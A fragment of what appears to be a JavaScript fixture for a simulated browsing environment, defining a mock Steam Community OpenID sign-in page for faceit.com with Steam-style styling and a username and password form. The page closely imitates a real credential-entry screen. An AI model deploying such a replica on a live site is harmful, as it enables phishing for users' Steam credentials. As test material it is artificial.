  url: 'https://steamcommunity.com/openid/login?openid.ns=http%3A%2F%2Fspecs.openid.net%2Fauth%2F2.0&openid.mode=checkid_setup&openid.return_to=https%3A%2F%2Fwww.faceit.com%2Fauth%2Fsteam&openid.realm=https%3A%2F%2Fwww.faceit.com',
  body: doc({
    title: 'Steam Community :: Sign In',
    css: `body{margin:0;background:#1b2838;color:#c7d5e0;font-family:"Motiva Sans",Arial,sans-serif}.h{background:#171a21;padding:16px 30px;color:#fff;font-weight:700;letter-spacing:2px}.c{max-width:700px;margin:40px auto;background:#181a21;padding:30px;border-radius:4px}.site{background:#2a475e;padding:12px;border-radius:3px;margin-bottom:20px}input{width:100%;box-sizing:border-box;background:#32353c;border:0;padding:10px;color:#fff;margin:6px 0 14px}button{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 60px;border-radius:2px}`,
    body: `<div class="h">STEAM&reg;</div>
<div class="c"><div class="site">Sign into <b>www.faceit.com</b> using your Steam account. Note that www.faceit.com is not affiliated with Steam or Valve.</div>
<form method="post" action="/openid/login"><label>SIGN IN WITH ACCOUNT NAME</label><input name="username" autocomplete="username"><label>PASSWORD</label><input name="password" type="password" autocomplete="current-password"><button type="submit">Sign in</button></form>
<p style="font-size:13px">Or sign in with QR using the Steam Mobile App. <a href="https://help.steampowered.com/en/wizard/HelpWithLogin" style="color:#66c0f4">Help, I can't sign in</a></p></div>`,
  }),
},
];
